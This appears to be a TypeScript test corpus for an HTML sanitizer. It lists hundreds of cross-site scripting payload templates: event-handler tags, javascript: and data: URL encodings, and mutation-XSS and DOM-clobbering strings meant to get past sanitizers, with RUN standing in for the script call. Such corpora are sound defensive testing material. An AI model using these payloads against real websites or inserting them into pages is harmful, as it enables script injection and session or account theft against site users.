/** Elements with a handler; `RUN` is the call. */
export const handlers = [
  ...[
    '<img src=x: onerror=RUN>',
    '<img/src=x:/onerror=RUN>',
    '<IMG SRC=x: OnErRoR=RUN>',
    '<img src=x:\nonerror\n=\nRUN>',
  ],
  ...[
    '<img src=x:\u000Conerror=RUN>',
    '<img src=x: onerror="RUN"',
    "<img src='x:'onerror='RUN'>",
    '<image src=x: onerror=RUN>',
  ],
  ...[
    '<img src=x: onerror=RUN//',
    '<img srcset="x: 1x" onerror=RUN>',
    '<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload=RUN>',
  ],
  ...[
    '<picture><source srcset=x:><img onerror=RUN></picture>',
    '<svg onload=RUN>',
    '<svg/onload=RUN>',
    '<svg><g onload=RUN></g></svg>',
  ],
  ...[
    '<svg><image href=x: onerror=RUN></svg>',
    '<svg><animate onbegin=RUN attributeName=x dur=1s></svg>',
    '<svg><set onbegin=RUN attributeName=x></svg>',
  ],
  ...[
    '<svg><animateTransform onbegin=RUN attributeName=transform></svg>',
    '<svg><style onload=RUN></style></svg>',
    '<svg><a onclick=RUN><text>x</text></a></svg>',
  ],
  ...[
    '<body onload=RUN>',
    '<body onpageshow=RUN>',
    '<body onfocus=RUN>',
    '<frameset onload=RUN>',
    '<iframe onload=RUN></iframe>',
  ],
  ...[
    '<video onerror=RUN><source onerror=RUN src=x:></video>',
    '<video src=x: onerror=RUN></video>',
    '<audio src=x: onerror=RUN></audio>',
  ],
  ...[
    '<video poster=x: onloadstart=RUN src=x:></video>',
    '<object data=x: onerror=RUN></object>',
    '<embed src=x: onerror=RUN>',
    '<link rel=stylesheet href=x: onerror=RUN>',
  ],
  ...[
    '<script src=x: onerror=RUN></script>',
    '<style onload=RUN></style>',
    '<details open ontoggle=RUN>x</details>',
    '<details ontoggle=RUN open=open><summary>x',
  ],
  ...[
    '<input autofocus onfocus=RUN>',
    '<select autofocus onfocus=RUN></select>',
    '<textarea autofocus onfocus=RUN></textarea>',
    '<button autofocus onfocus=RUN>x</button>',
  ],
  ...[
    '<keygen autofocus onfocus=RUN>',
    '<x contenteditable autofocus tabindex=1 onfocus=RUN>',
    '<a href=# autofocus onfocus=RUN>x</a>',
    '<marquee onstart=RUN>x</marquee>',
  ],
  ...[
    '<p onclick=RUN>x</p>',
    '<p onmouseover=RUN>x</p>',
    '<p onpointerenter=RUN>x</p>',
    '<b oncopy=RUN>x</b>',
    '<h1 ondrag=RUN draggable=true>x</h1>',
    '<td onwheel=RUN>x</td>',
  ],
  ...[
    '<li onanimationstart=RUN style=animation:spin>x</li>',
    '<div ontransitionend=RUN style=transition:all>x</div>',
    '<form onsubmit=RUN><button>x</button></form>',
  ],
  ...[
    '<form oninput=RUN><input></form>',
    '<meter onmouseover=RUN>x</meter>',
    '<dialog open onclose=RUN>x</dialog>',
    '<div popover onbeforetoggle=RUN>x</div>',
  ],
  ...[
    '<x onclick=RUN>x</x>',
    '<custom-element onclick=RUN>x</custom-element>',
    '<p onclick=RUN onclick=1>x</p>',
    '<p \u0000onclick=RUN>x</p>',
    '<p ONCLICK=RUN>x</p>',
    '<p/=/onclick=RUN>x</p>',
  ],
];

/** Elements with an address; `URL` is one that runs the call. */
export const addressed = [
  ...[
    '<a href="URL">x</a>',
    '<A HREF="URL">x</A>',
    '<a target=_self href="URL">x</a>',
    '<a href=\u0001"URL">x</a>',
    '<a xlink:href="URL">x</a>',
    '<area href="URL" shape=default>',
  ],
  ...[
    '<form action="URL"><button>x</button></form>',
    '<form><button formaction="URL">x</button></form>',
    '<form><input type=image formaction="URL"></form>',
  ],
  ...[
    '<iframe src="URL"></iframe>',
    '<frame src="URL">',
    '<embed src="URL">',
    '<object data="URL"></object>',
    '<object><param name=src value="URL"></object>',
    '<applet code="URL">',
  ],
  ...[
    '<svg><a href="URL"><text>x</text></a></svg>',
    '<svg><a xlink:href="URL"><text>x</text></a></svg>',
    '<svg><use href="URL"></use></svg>',
    '<svg><script href="URL"></script></svg>',
  ],
  ...[
    '<svg><a><animate attributeName=href values="URL"></animate><text>x</text></a></svg>',
    '<svg><a><set attributeName=href to="URL"></set><text>x</text></a></svg>',
  ],
  ...[
    '<math href="URL">x</math>',
    '<math><maction actiontype="statusline#" xlink:href="URL">x</maction></math>',
    '<math><mi xlink:href="URL">x</mi></math>',
  ],
  ...[
    '<base href="URL"><a href=x>x</a>',
    '<meta http-equiv=refresh content="0;url=URL">',
    '<link rel=import href="URL">',
    '<link rel=stylesheet href="URL">',
    '<script src="URL"></script>',
  ],
  ...[
    '<img src="URL">',
    '<img srcset="URL 1x">',
    '<img dynsrc="URL">',
    '<img lowsrc="URL">',
    '<input type=image src="URL">',
    '<video src="URL"></video>',
    '<body background="URL">',
  ],
  ...[
    '<table background="URL"><tr><td>x',
    '<div style="background:url(URL)">x</div>',
    '<style>@import "URL";</style>',
    '<style>*{background:url(URL)}</style>',
    '<blockquote cite="URL">x</blockquote>',
  ],
  ...[
    '<a href="#" ping="URL">x</a>',
    '<bgsound src="URL">',
    '<isindex action="URL" type=submit value=x>',
    '<portal src="URL"></portal>',
    '<iframe srcdoc="<script>RUN</script>"></iframe>',
  ],
];

/** Ways to write an address that runs a call. */
export const addresses: readonly ((run: string) => string)[] = [
  run => `javascript:${run}`,
  run => `JaVaScRiPt:${run}`,
  run => ` javascript:${run}`,
  run => `\u0001javascript:${run}`,
  run => `java\tscript:${run}`,
  run => `java&#10;script:${run}`,
  run => `java&NewLine;script&colon;${run}`,
  run => `&#106;&#97;vascript:${run}`,
  run => `javascript&#58;${run}`,
  run => `javascript://a%0a${run}`,
  run => `jav&#x0A;ascript&colon;${run}`,
  run => `vbscript:${run}`,
  run => `data:text/html,&lt;script&gt;${run}&lt;/script&gt;`,
  run => `data:text/html;base64,${btoa(`<script>${run}</script>`)}`,
  run => `data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/&gt;`,
  run => `blob:javascript:${run}`,
];

/** Scripts, and text that becomes one when it is parsed twice. */
export const mutations = [
  ...[
    '<script>RUN</script>',
    '<SCRIPT>RUN</SCRIPT>',
    '<script/x>RUN</script>',
    '<script\n>RUN</script\n>',
    '<script>RUN',
    '<<script>RUN//<</script>',
    '<scr<script>ipt>RUN</scr</script>ipt>',
  ],
  ...[
    '<script type=module>RUN</script>',
    '<svg><script>RUN</script></svg>',
    '<math><script>RUN</script></math>',
    '<svg><script>&#40;RUN&#41;</script></svg>',
    '<![CDATA[<script>RUN</script>]]>',
  ],
  ...[
    '<!--><script>RUN</script>-->',
    '<!--<img src="--><img src=x: onerror=RUN>">',
    '<?xml version="1.0"?><script>RUN</script>',
    '<!DOCTYPE x [<!ENTITY e "<script>RUN</script>">]>&e;',
  ],
  ...[
    '<template><script>RUN</script></template>',
    '<template><img src=x: onerror=RUN></template>',
    '<template shadowrootmode=open><img src=x: onerror=RUN></template>',
    '<template><template><svg onload=RUN></template></template>',
  ],
  ...[
    '<noscript><p title="</noscript><img src=x: onerror=RUN>"></noscript>',
    '<noscript><style></noscript><img src=x: onerror=RUN>',
    '<xmp><p title="</xmp><img src=x: onerror=RUN>">',
  ],
  ...[
    '<noembed><p title="</noembed><img src=x: onerror=RUN>">',
    '<noframes><p title="</noframes><img src=x: onerror=RUN>">',
    '<textarea><p title="</textarea><img src=x: onerror=RUN>">',
  ],
  ...[
    '<title><p title="</title><img src=x: onerror=RUN>">',
    '<style><p title="</style><img src=x: onerror=RUN>">',
    '<iframe><p title="</iframe><img src=x: onerror=RUN>">',
    '<plaintext><img src=x: onerror=RUN>',
  ],
  ...[
    '<svg></p><style><a id="</style><img src=x: onerror=RUN>">',
    '<svg><style><img src="</style><img src=x: onerror=RUN//">',
    '<svg><desc><style><img title="</style><img src=x: onerror=RUN>">',
  ],
  ...[
    '<svg><title><style><img title="</style><img src=x: onerror=RUN>">',
    '<svg><foreignObject><iframe srcdoc="<svg onload=RUN>"></foreignObject></svg>',
    '<svg><desc><noscript>&lt;img src=x: onerror=RUN&gt;',
  ],
  ...[
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=RUN&gt;">',
    '<math><mtext><table><mglyph><style><math><img src=x: onerror=RUN>',
  ],
  ...[
    '<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=RUN>',
    '<math><mi><table><mglyph><svg><mtext><style><path id="</style><img src=x: onerror=RUN>">',
  ],
  ...[
    '<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x: onerror=RUN>">',
    '<math><annotation-xml encoding=application/xhtml+xml><svg onload=RUN></annotation-xml></math>',
  ],
  ...[
    '<table><caption><svg><style><p title="</style><img src=x: onerror=RUN>">',
    '<select><svg><style><img title="</style><img src=x: onerror=RUN>">',
    '<select><template><style></template></select><img src=x: onerror=RUN>',
  ],
  ...[
    '<form><input name=attributes><img src=x: onerror=RUN></form>',
    '<form><input name=nodeName><script>RUN</script></form>',
    '<form id=x><input form=x name=parentNode><svg onload=RUN>',
    '<img name=removeChild><svg onload=RUN>',
  ],
  ...[
    '<a title="x"><img alt="`><img src=x: onerror=RUN>">',
    '<img alt="x" src="` `onerror=RUN//">',
    '<p title=`<img src=x: onerror=RUN>`>',
    '<a<a href="javascript:RUN">x</a>',
    '<img """><script>RUN</script>">',
  ],
  ...[
    '<div style="width:expression(RUN)">x</div>',
    '<div style="-moz-binding:url(javascript:RUN)">x</div>',
    '<style>@keyframes spin{}</style><p style=animation:spin onanimationend=RUN>x',
    '<xss style=behavior:url(#default#time2) onbegin=RUN>x',
  ],
  ...[
    '+ADw-script+AD4-RUN+ADw-/script+AD4-',
    '%3Cscript%3ERUN%3C/script%3E',
    '&lt;script&gt;RUN&lt;/script&gt;',
    '\u00BCscript\u00BERUN\u00BC/script\u00BE',
    '<\u0000script>RUN</script>',
    '<listing>&lt;img src=x: onerror=RUN&gt;</listing>',
  ],
  ...[
    `${'<div>'.repeat(300)}<img src=x: onerror=RUN>`,
    `${'<b><p>'.repeat(60)}<svg onload=RUN>`,
    `${'<table><tr><td>'.repeat(40)}<script>RUN</script>`,
    `${'<svg><desc>'.repeat(30)}<style><a title="</style><img src=x: onerror=RUN>">`,
  ],
];
